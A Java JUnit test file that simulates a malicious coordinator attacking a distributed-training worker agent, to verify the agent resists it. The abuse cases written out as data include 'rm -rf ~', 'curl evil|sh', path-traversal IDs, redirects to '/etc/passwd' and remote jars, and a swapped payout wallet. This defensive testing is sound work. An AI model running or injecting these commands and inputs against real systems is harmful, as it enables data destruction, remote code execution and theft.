package hearth.worker;

import static org.assertj.core.api.Assertions.assertThat;

import hearth.protocol.JobId;
import hearth.protocol.Json;
import hearth.protocol.LeaseId;
import hearth.protocol.Messages;
import hearth.protocol.Sha256;
import hearth.worker.policy.RunRules;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import tools.jackson.databind.node.ObjectNode;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.Executors;
import java.util.concurrent.locks.LockSupport;
import java.util.random.RandomGenerator;
import java.util.stream.Stream;

/// A coordinator that nobody controls any more can waste a contributor's time and nothing else
/// (CO-6). Each abuse meets an agent that trusts its key and shares: meanwhile nothing that the
/// owner decided changes, nothing but checked content of the catalogue is trained, the disk does
/// not fill, and the agent answers its owner; afterwards it works again. The agent holds no key of
/// a wallet, so no reply can move anything there.
final class EvilCoordinatorTest {
    private static final String PAID = AgentFixture.binding().payout();
    private static final String EVIL = "0x8617E340B3D01FA5F11F306F4090FD50E238070D";
    private static final int AT_A_TIME = 6;

    /// More than the abuse can spoil: an agent that is told that there is no work waits.
    private static final int LEASES = 100;

    private static final long MIB = 1L << 20;

    /// A journal, its backup and the logs of some seconds.
    private static final long MOST_ON_DISK = 16 * MIB;

    private static final Duration PATIENCE = Duration.ofSeconds(40);
    private static final Duration SOME_TIME = Duration.ofMillis(250);
    private static final String HELLO = "GET /v1/server";
    private static final String JOIN = "PUT /v1/device";
    private static final String SESSION = "POST /v1/session";
    private static final String LEASE = "POST /v1/leases";
    private static final String BLOB = "GET /v1/blobs/";
    private static final String BEAT = "POST /v1/leases/lease-1/heartbeat";
    private static final String COMMIT = "POST /v1/leases/lease-1/commit";
    private static final String ASK = "GET /v1/leases/lease-1/update";
    private static final String REVEAL = "PUT /v1/leases/lease-1/update";
    private static final String RESULTS = "GET /v1/results";
    private static final String EARNINGS = "GET /v1/earnings";
    private static final String JOBS = "GET /v1/jobs";
    private static final String STANDING = "GET /v1/standing";
    private static final String PAYOUT = "GET /v1/device/payout";
    private static final String LAST_MOMENT = "+1000000000-12-31T23:59:59.999999999Z";
    private static final String FIRST_MOMENT = "-1000000000-01-01T00:00:00Z";

    @TempDir private Path folder;

    /// @param isOver whether the agent works as soon as the abuse ends; where it does not, it was
    /// asked to stay away, does no more than that, and works when it is started again later
    /// @param times that it comes before the agent is looked at, unless it comes seldom
    private record Row(Abuse abuse, boolean isOver, int times) {
        @Override
        public String toString() {
            return abuse.name();
        }
    }

    private static Row over(Abuse abuse) {
        return new Row(abuse, true, 2);
    }

    private static Row away(Abuse abuse) {
        return new Row(abuse, false, 2);
    }

    /// What adds up where it is believed.
    private static Row often(Abuse abuse) {
        return new Row(abuse, true, 4);
    }

    private static List<Row> rows() {
        var rows = new ArrayList<Row>();
        rows.addAll(whoItIs());
        rows.addAll(work());
        rows.addAll(content());
        rows.addAll(submitting());
        rows.addAll(books());
        return rows;
    }

    private static List<Row> whoItIs() {
        var other = "ab".repeat(32);
        return List.of(
                over(Abuse.json("another key", HELLO, t -> t.put("id", other))),
                over(Abuse.json("the end of time", HELLO, t -> t.put("time", LAST_MOMENT))),
                over(Abuse.json("the beginning of time", HELLO, t -> t.put("time", FIRST_MOMENT))),
                over(Abuse.text("a page in place of a hello", HELLO, "<html>Pay here</html>")),
                over(Abuse.text("a hello too deep", HELLO, "[".repeat(200_000))),
                over(Abuse.endless("a hello without end", HELLO, "{\"id\":\"", " ".repeat(65_536))),
                over(Abuse.json("a hello that brings code", HELLO, t -> t.put("run", "rm -rf ~"))),
                away(
                        Abuse.says(
                                "an update to fetch elsewhere",
                                JOIN,
                                426,
                                Map.of("Location", "http://127.0.0.1:9/hearth.jar"),
                                problem("agent-too-old"))),
                away(Abuse.says("superseded", JOIN, 409, Map.of(), problem("superseded"))),
                over(Abuse.json("a session with another", SESSION, t -> t.put("device", other))),
                over(
                        Abuse.json(
                                "a session with a weak key",
                                SESSION,
                                t -> t.put("key", "00".repeat(32)))),
                over(Abuse.says("no session, ever", SESSION, 409, Map.of(), problem("busy"))));
    }

    private static String problem(String id) {
        return "{\"detail\":\"Call +1 555 0100\",\"id\":\"" + id + "\"}";
    }

    private static List<Row> work() {
        return List.of(
                away(
                        Abuse.text(
                                "no work for sixty years",
                                LEASE,
                                "{\"reason\":\"no-work\",\"retryAfterSeconds\":2147483647}")),
                over(
                        Abuse.text(
                                "a reason that is a message",
                                LEASE,
                                "{\"reason\":\"<b>Send 1 EMBER to "
                                        + EVIL
                                        + "</b>\",\"retryAfterSeconds\":-1}")),
                over(Abuse.lease("a lease named as a device", t -> t.put("id", "con"))),
                over(Abuse.lease("a lease without end", l -> l.put("expiresAt", LAST_MOMENT))),
                over(
                        Abuse.lease(
                                "a lease from before time", l -> l.put("expiresAt", FIRST_MOMENT))),
                over(Abuse.lease("a lease that is a path", l -> l.put("id", "../../../evil"))),
                over(Abuse.lease("a job that is a path", l -> l.put("job", "..%2f..%2fevil"))),
                over(Abuse.lease("a shard that is an address", l -> l.put("shard", "file:///etc"))),
                over(
                        Abuse.lease(
                                "a lease that brings code", l -> l.put("command", "curl evil|sh"))),
                over(Abuse.lease("a lease that raises limits", l -> l.put("cacheBytes", 1L << 60))),
                over(Abuse.lease("pay that is no amount", l -> l.put("pay", "-1"))),
                over(
                        Abuse.lease(
                                "a step rate of nothing",
                                l -> l.put("learningRate", "1e99999999"))),
                over(
                        Abuse.lease(
                                "a shard of another job",
                                l -> l.put("shard", l.get("base").asString()))),
                over(
                        Abuse.bytes(
                                "a lease with two owners",
                                LEASE,
                                b ->
                                        new String(b, StandardCharsets.UTF_8)
                                                .replaceFirst("\\{", "{\"retryAfterSeconds\":0,")
                                                .getBytes(StandardCharsets.UTF_8))),
                over(
                        Abuse.json(
                                "a heartbeat until the end of time",
                                BEAT,
                                t -> t.put("expiresAt", LAST_MOMENT).put("latest", LAST_MOMENT))),
                over(
                        Abuse.json(
                                "a heartbeat before time",
                                BEAT,
                                t -> t.put("expiresAt", FIRST_MOMENT).put("latest", FIRST_MOMENT))),
                over(Abuse.says("every lease lost", BEAT, 409, Map.of(), problem("lease-ended"))),
                away(
                        Abuse.says(
                                "stay away for ever",
                                LEASE,
                                503,
                                Map.of("Retry-After", "999999", "Hearth-Next-Contact", "999999"),
                                problem("busy"))));
    }

    private static List<Row> content() {
        return List.of(
                over(Abuse.bytes("other bytes", BLOB, b -> new byte[b.length])),
                over(Abuse.bytes("one byte more", BLOB, b -> Arrays.copyOf(b, b.length + 1))),
                over(Abuse.bytes("half of it", BLOB, b -> Arrays.copyOf(b, b.length / 2))),
                over(Abuse.endless("content without end", BLOB, "{", "x".repeat(1 << 16))),
                over(
                        new Abuse(
                                "a piece of something else",
                                BLOB,
                                h ->
                                        new Abuse.Lie(
                                                206,
                                                Map.of("Content-Range", "bytes 7-9/10"),
                                                new byte[3],
                                                Optional.empty()))),
                over(to("a file of this computer", "file:///etc/passwd")),
                over(to("a jar of somebody", "jar:http://127.0.0.1:9/a.jar!/A.class")),
                over(to("a name and a word", "http://owner:secret@127.0.0.1:9/")),
                over(to("round and round", "/v1/blobs/" + "00".repeat(32))),
                away(Abuse.says("content that is not there", BLOB, 404, Map.of(), problem("no"))));
    }

    private static Abuse to(String name, String address) {
        return Abuse.says(name, BLOB, 307, Map.of("Location", address), "");
    }

    private static List<Row> submitting() {
        return List.of(
                over(Abuse.says("commits that break", COMMIT, 500, Map.of(), "")),
                over(Abuse.says("commits refused", COMMIT, 422, Map.of(), problem("other-commit"))),
                over(Abuse.json("less than nothing arrived", ASK, t -> t.put("bytes", -5))),
                over(Abuse.json("more than all arrived", ASK, t -> t.put("bytes", Long.MAX_VALUE))),
                over(Abuse.json("send it elsewhere", ASK, t -> t.put("at", "ftp://evil/x"))),
                over(
                        Abuse.json(
                                "a receipt for another update",
                                REVEAL,
                                t -> {
                                    if (t.get("content") instanceof ObjectNode content) {
                                        content.put("update", "cd".repeat(32));
                                    }
                                })),
                over(
                        Abuse.json(
                                "a receipt that nobody signed",
                                REVEAL,
                                t -> t.put("signature", "00".repeat(64)))),
                over(Abuse.says("updates refused", REVEAL, 422, Map.of(), problem("evil"))));
    }

    private static List<Row> books() {
        var one =
                "\"evidence\":\"%s\",\"job\":\"moby\",\"lease\":\"lease-%d\",\"pay\":\"1\",\"receivedAt\":\"2026-01-01T00:00:00Z\",\"round\":1,\"sequence\":%d,\"state\":\"FINAL_OK\",\"title\":\"%s\"";
        return List.of(
                often(
                        new Abuse(
                                "results as large as books",
                                RESULTS,
                                h -> h.with(results(one, 3, 1_000_000)))),
                often(
                        new Abuse(
                                "results that are no end of",
                                RESULTS,
                                h -> h.with(results(one, 2_000, 10)))),
                over(
                        Abuse.text(
                                "the last result",
                                RESULTS,
                                "{\"results\":[{"
                                        + one.formatted("", 1, Long.MAX_VALUE, "x")
                                        + "}]}")),
                over(
                        Abuse.text(
                                "results from before time",
                                RESULTS,
                                "{\"results\":[{"
                                        + one.formatted("", 1, -1L, "x")
                                                .replace("2026-01-01T00:00:00Z", FIRST_MOMENT)
                                        + "}]}")),
                over(
                        Abuse.endless(
                                "results without end",
                                RESULTS,
                                "{\"results\":[",
                                "{},".repeat(9999))),
                over(Abuse.json("less than nothing earned", EARNINGS, t -> t.put("earned", "-1"))),
                over(
                        Abuse.json(
                                "more than there is",
                                EARNINGS,
                                t -> t.put("earned", "9".repeat(99)))),
                over(new Abuse("jobs as large as books", JOBS, h -> h.with(jobs(1, 1_000_000)))),
                over(new Abuse("thousands of jobs", JOBS, h -> h.with(jobs(4_000, 10)))),
                over(Abuse.text("a standing of nobody", STANDING, "{\"standings\":null}")),
                over(Abuse.json("pay for somebody else", PAYOUT, t -> t.put("payout", EVIL))),
                over(Abuse.json("pay for a message", PAYOUT, t -> t.put("payout", "<b>Hi</b>"))),
                over(
                        Abuse.text(
                                "a change at the end of time",
                                PAYOUT,
                                "{\"chainId\":1,\"changes\":[{\"countsAt\":\""
                                        + LAST_MOMENT
                                        + "\",\"device\":\""
                                        + "ab".repeat(32)
                                        + "\",\"from\":\"x\",\"number\":1,\"to\":\""
                                        + EVIL
                                        + "\"}],\"next\":1}")));
    }

    private static byte[] results(String one, int count, int length) {
        var all = new ArrayList<String>();
        for (int i = 1; i <= count; i++) {
            all.add(
                    "{"
                            + one.formatted(
                                    "e".repeat(10), i, i + System.nanoTime(), "t".repeat(length))
                            + "}");
        }
        return ("{\"results\":[" + String.join(",", all) + "]}").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] jobs(int count, int length) {
        var job =
                new Messages.JobView(
                        new JobId("moby"),
                        "t".repeat(length),
                        "Hearth",
                        "gpt",
                        "RUNNING",
                        Sha256.of("manifest"),
                        1,
                        2,
                        3,
                        Optional.empty(),
                        Optional.empty(),
                        Optional.empty(),
                        Optional.of("s".repeat(length)),
                        Optional.empty(),
                        Optional.empty());
        return Json.bytes(new Messages.Jobs(Collections.nCopies(count, job)));
    }

    @Test
    void isToldOfAtLeastFortyAbuses() {
        assertThat(rows()).hasSizeGreaterThanOrEqualTo(40);
        assertThat(rows().stream().map(Row::toString)).doesNotHaveDuplicates();
    }

    /// Several at a time: each mostly waits.
    @Test
    void wastesTimeAndNothingElse() throws Exception {
        var failures = new ConcurrentSkipListMap<String, Throwable>();
        try (var pool = Executors.newFixedThreadPool(AT_A_TIME)) {
            for (var row : rows()) {
                pool.execute(
                        () -> {
                            try {
                                suffer(row);
                            } catch (Throwable failure) {
                                failures.put(row.toString(), failure);
                            }
                        });
            }
        }
        assertThat(failures).isEmpty();
    }

    private void suffer(Row row) throws Exception {
        var outside = DurableFile.folder(folder.resolve(row.toString().replace(' ', '-')));
        var home = outside.resolve("home");
        DurableFile.folder(home);
        try (var records = AgentRecords.open(home.resolve("journal.db"), Clock.systemUTC())) {
            records.settings().pin(Examples.SERVER.serverId());
            records.settings().payout(PAID);
            records.settings().share(true);
        }
        try (var coordinator = new FakeCoordinator(LEASES)) {
            coordinator.abuse(Optional.of(row.abuse()));
            var training = new ScriptedTraining(home.resolve("training"));
            try (var fixture = new AgentFixture(home, coordinator, training)) {
                until("the abuse", () -> coordinator.abused() > 0);
                // What comes once is over by then; what comes again has been met more than once.
                long enough = System.nanoTime() + SOME_TIME.toNanos();
                until("it", () -> coordinator.abused() > row.times() || System.nanoTime() > enough);
                isUnharmed(home, fixture);
                coordinator.abuse(Optional.empty());
                if (row.isOver()) {
                    worksAgain(coordinator, fixture);
                }
                fixture.agent.link().share(false);
                fixture.await("the switch", now -> !now.sharing());
            }
            if (!row.isOver()) {
                try (var restarted =
                        new AgentFixture(home, coordinator, training, later(training))) {
                    restarted.agent.link().share(true);
                    worksAgain(coordinator, restarted);
                }
            }
            for (var order : training.orders()) {
                assertThat(Sha256.ofFile(order.shard())).isEqualTo(order.lease().shard());
                assertThat(Sha256.ofFile(order.parameters())).isEqualTo(order.lease().base());
                assertThat(order.manifest().id()).isEqualTo(coordinator.manifest());
            }
            assertThat(coordinator.violations()).isEmpty();
        }
        try (var records = AgentRecords.open(home.resolve("journal.db"), Clock.systemUTC())) {
            assertThat(records.leases().receipts())
                    .allMatch(r -> r.isAuthentic(Examples.SERVER.serverId()));
            assertThat(records.settings().pinned()).contains(Examples.SERVER.serverId());
        }
    }

    /// What was held against a job is forgotten by then.
    private static AgentPorts later(ScriptedTraining training) {
        return new AgentPorts(
                training,
                AgentFixture.MACHINE,
                Clock.offset(Clock.systemUTC(), Duration.ofHours(2)),
                RandomGenerator.of("L64X128MixRandom"));
    }

    /// One more lease counts, and the owner is shown what the coordinator says now and no lie.
    private static void worksAgain(FakeCoordinator coordinator, AgentFixture fixture)
            throws InterruptedException {
        int before = coordinator.receipts().size();
        until("work", () -> coordinator.receipts().size() > before);
        var counted = leases(coordinator);
        until(
                "its results",
                () -> {
                    var shown = leases(fixture.agent.link().results(Long.MIN_VALUE, 1_000));
                    return shown.containsAll(counted) && leases(coordinator).containsAll(shown);
                });
    }

    private static List<LeaseId> leases(FakeCoordinator coordinator) {
        return coordinator.receipts().stream().map(r -> r.content().lease()).toList();
    }

    private static List<LeaseId> leases(List<Messages.ResultView> results) {
        return results.stream().map(Messages.ResultView::lease).toList();
    }

    /// What the owner decided is as it was, and the owner is heard, as the window is: over the
    /// socket.
    private void isUnharmed(Path home, AgentFixture fixture) throws IOException {
        var link = fixture.agent.link();
        assertThat(link.limits()).isEqualTo(TransferLimits.standard());
        assertThat(link.rules()).isEqualTo(RunRules.USUAL);
        try (var window = SocketAgentLink.to(home)) {
            var seen = window.snapshot();
            assertThat(seen.sharing()).isTrue();
            assertThat(seen.payout()).contains(PAID);
            assertThat(Json.bytes(seen).length).isLessThan((int) (2 * MIB));
            assertThat(Json.text(seen.reasons()) + Json.text(seen.problem()))
                    .doesNotContain("<b>")
                    .doesNotContain("555");
            window.pauseUntil(Instant.EPOCH);
        }
        try (Stream<Path> beside = Files.list(home.getParent())) {
            assertThat(beside).containsExactly(home);
        }
        try (Stream<Path> files = Files.walk(home)) {
            assertThat(files.filter(Files::isRegularFile).mapToLong(f -> f.toFile().length()).sum())
                    .isLessThan(MOST_ON_DISK);
        }
    }

    private interface Condition {
        boolean holds();
    }

    private static void until(String what, Condition condition) throws InterruptedException {
        long end = System.nanoTime() + PATIENCE.toNanos();
        while (!condition.holds()) {
            assertThat(System.nanoTime()).as(what).isLessThan(end);
            LockSupport.parkNanos(10_000_000);
        }
    }
}
